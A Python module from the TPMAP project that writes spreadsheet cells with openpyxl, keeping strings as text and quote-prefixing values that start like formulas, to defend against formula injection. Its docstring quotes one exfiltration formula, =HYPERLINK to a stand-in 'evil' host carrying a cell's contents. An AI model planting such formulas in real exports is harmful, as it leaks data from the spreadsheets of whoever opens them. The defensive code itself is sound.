"""Cells of every workbook TPMAP writes: a text is always a text.

openpyxl turns a string that starts with ``=`` into a live formula, so a problem's agency
typed as ``=HYPERLINK("http://evil/?"&A1)`` would run in the spreadsheet of whoever opens
the report. Every writer (reports, open data) goes through :func:`put` or :func:`row`: a
string is stored as a string cell, and one that starts with a character a spreadsheet
reads as the start of a formula (``= + - @``, or a tab or carriage return before one) is
also marked with Excel's quote prefix, so editing the cell in Excel keeps it a text.
Numbers, dates and empty cells are stored as they are.
"""

from __future__ import annotations

import io
from collections.abc import Iterable
from typing import TYPE_CHECKING, Any

from tpmap.core.nid import mask_text

if TYPE_CHECKING:  # openpyxl (with numpy) takes a second to import: only when exporting
    from openpyxl.cell.cell import Cell
    from openpyxl.workbook.workbook import Workbook
    from openpyxl.worksheet.worksheet import Worksheet

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def looks_like_formula(text: str) -> bool:
    return text.startswith(FORMULA_STARTS)


def _as_text(cell: Cell, value: str) -> Cell:
    # An export is a boundary: a NID typed before masking covered every form is masked.
    value = mask_text(value)
    cell.value = value
    # Set after the value: assigning a value starting with "=" makes openpyxl type it "f".
    cell.data_type = "s"
    if looks_like_formula(value):
        cell.quotePrefix = True
    return cell


def put(ws: Worksheet, *, row: int, column: int, value: Any) -> Cell:
    """Write ``value`` into one cell of ``ws``; a string stays a string."""
    cell = ws.cell(row=row, column=column)
    if isinstance(value, str):
        return _as_text(cell, value)
    cell.value = value
    return cell


def row(ws: Worksheet, values: Iterable[Any]) -> None:
    """Append one row to ``ws`` (as ``Worksheet.append``); strings stay strings."""
    from openpyxl.cell.cell import Cell

    ws.append([_as_text(Cell(ws), v) if isinstance(v, str) else v for v in values])


def workbook(title: str) -> tuple[Workbook, Worksheet]:
    """A new workbook and its first sheet, named ``title`` (openpyxl is imported here, when
    a file is exported, not when a worker starts)."""
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    assert ws is not None
    ws.title = title
    return wb, ws


def to_bytes(wb: Workbook) -> bytes:
    """The .xlsx file of ``wb``."""
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()
